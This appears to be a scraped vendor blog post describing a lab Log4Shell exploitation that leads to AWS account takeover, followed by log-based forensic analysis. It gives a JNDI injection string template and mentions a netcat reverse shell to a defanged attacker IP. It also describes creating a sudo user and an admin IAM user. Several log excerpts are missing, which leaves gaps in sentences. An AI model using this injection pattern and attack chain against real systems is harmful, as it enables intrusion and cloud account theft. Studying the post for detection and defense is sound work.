How To
Dec 21, 2021

AWS Account Takeover via Log4Shell

Weinstalled Log4j on AWS, and then hacked it. Here's what we learned.

Apache's Log4j logging utility has received widespread media attention in the last few weeks due to a critical (and easily exploitable) zero-day vulnerability (CVE-2021-44228) discovered in its JNDI (Java Naming and Directory Interface) message lookup method. The exposure enables aremote attacker to send specially crafted messages to vulnerable web servers to trigger unauthenticated code execution through JNDI injection and, most commonly, the LDAP protocol. When a vulnerable web server receives a request with the string (for example) ${jndi:ldap://<host>:<port>/<commands>...} within an HTTP header or as part of URL, the server will log the request and send an LDAP query to an attacker-controlled LDAP server. The query will generally contain the commands specified in the JNDI:LDAP string, which the vulnerable server then fetches, deserializes, and executes within the user context running the vulnerable application, resulting in arbitrary remote code execution.

In this blog, we will present a scenario in which exploiting a vulnerable Log4j application results in the takeover of an AWS account. Certain conditions must be present to achieve a complete AWS account takeover through the Log4j vulnerability, and we are by no means suggesting that a link between Log4j2 and AWS exists. However, we intend to show you that a vulnerable Log4j2 application hosted in AWS (or any other public cloud), paired with poor security practices, could make this scenario a reality.

Setting Up the Environment

We executed all the steps outlined inthis blog in a lab environment to show the vulnerability's ease of exploitation, severity, and potential impacts.

We used a slightly modified version of @christophetd's Log4Shell Vulnerable App deployed as a Docker container in an EC2 instance for our vulnerable application. We also deployed a virtual machine in Digital Ocean to send JNDI injection requests to the vulnerable app and serve the exploit code that the vulnerable app would later fetch upon receiving the injection request.

We ran the JNDIExploit in a virtual machine in Digital Ocean to server malicious LDAP queries received from the vulnerable app and deliver our initial exploit code. Additionally, we set up a Netcat listener on the same server to control the vulnerable server remotely following successful exploit execution.

Log4j exploit AWS architecture
Our Log4j exploit AWS architecture

The Exploit

We used a straightforward exploit code to establish a Netcat reverse shell to the app's Docker container. Once inside the container, the AWS CLI allowed us full access to all AWS resources within the account through the IAM roleattached to the EC2 instance running the container.

The Attack

To establish the attack timeline, we analyzed the following log files in Gigasheet:

  • Docker container application log
  • Docker container OS logs (syslog and dpkg.log)
  • AWS CloudTrail logsThe Docker container application log file contains the Log4j2 logs, which combine Java multiline and Apache weblogs. The vulnerable app comes with a Log4j2 logger that will trigger when the application receives web requests with the X-Api-Version HTTP header set. Under this scenario, the Log4j2 logger will record an informational (INFO) log message with the value of the X-Api-Version header. By applying a filter that looks for the keyword INFO in column A, we can essentially identify all the requests that Log4j2 logged:

Requests that Log4j logged
Requests that Log4j logged

Let's take a look at the following log message:


This log instructs the vulnerable application to send an LDAP query for the Base64-encoded value in the URL path to over port 1389. Upon receiving the LDAP query, the malicious LDAP server ( will serve the exploit code over port TCP 8888. The Base64 values in the X-Api-Version headers are essentially the commands we want the vulnerable app server to execute.

Split on / to isolate Base64strings
Split on / to isolate Base64 strings

We can use Gigasheet's split column function using the forward-slash (/) as a separator to place the Base64 values in a separate column. We can then export the results and copy the column containing the Base64 values (removing the ending curly bracket) into a decoder to reveal the commands sent to the server.

Note: Base64 decoding is coming to Gigasheet soon! The new decoding function will automatically search a given columns for any Base64 string and decode it. Expected release is Dec 2021.
Decoding Base64 strings
Decoding Base64 strings

The commands below indicate that a script named containing a netcat reverse shell to 143[.]244[.]161[.]235:9001 was placed in the Docker container's /tmp directory and later executed twice in an attempt to access the container.

Decoded Values
Decoded Values

Unfortunately, the Log4j2 logs will not tell us what happened inside the Docker container following successful reverse shell execution. Still, we canswitch to the Docker container operating system logs to attempt to complete the timeline.

The first reverse shell execution took place at 10:59:45.829 on 2021-12-18, as indicated by the following log:

Log4j exploit AWS analysis

Let's look at the Docker container's syslog file. Approximately fifteen minutes after executing the first reverse shell, a new user account named debian was created in the Docker container and added to the sudoers file.

Docker Syslog - Log4j Analysis

Switching to the dpkg.log file, we see that various packages were installed on the Docker container, such as the AWS CLI and net-tools, following the creation of the debian user account.

dpkg.log - Log4j Exploit

The AWS CLI installation may suggest that the attacker attempted to access AWS resources from the Docker container by invoking AWS' APIs. Therefore, we can switch to the AWS CloudTrail logs to complete the timeline. We are only interested in CloudTrail events that occurred after the AWS CLI installation on the Docker container, so we apply a filter to the Event Time column to display logs timestamped 11:16 or later on 12/18/2021.

Event time filter
Log filter results

The first CloudTrail log indicates that an AWS role named Ec2s3readonly was used to return a set of temporary security credentials on resource I-0e300dd817f3a1329, the EC2 instance running the Docker container with the vulnerable app. These temporary credentials were later used to query various AWS APIs, create an IAM user account with administrative privileges to all AWS resources, and access the AWS console via a web browser.

IAM account creationwith admin privileges

Grouping by the User Namecolumn will quickly reveal the new IAM user that was not part of our AWS account before the Docker container compromise. This account logged into the AWS Console approximately 55 minutes following the first reverse shell execution.

Group By User Name
Group By User Name

The Weakness

The AWS account takeover was possible because a highly privileged IAM role had been assigned to the EC2 instance running the vulnerable Docker container app. While the Log4j2 vulnerability allowed initial access to the Docker container, the privileged IAM role enabled lateral movement and ultimately a total compromise of the AWS account.

Create your free Gigasheet account today!

The ease of a spreadsheet with the power of a database, at cloud scale.

No Code
No Database
No Training
Sign Up,Free

Similar posts

By using this website, you agree to the storing of cookies on your device to enhance sitenavigation, analyze site usage, and assist in ourmarketing efforts. View ourPrivacy Policy for more information.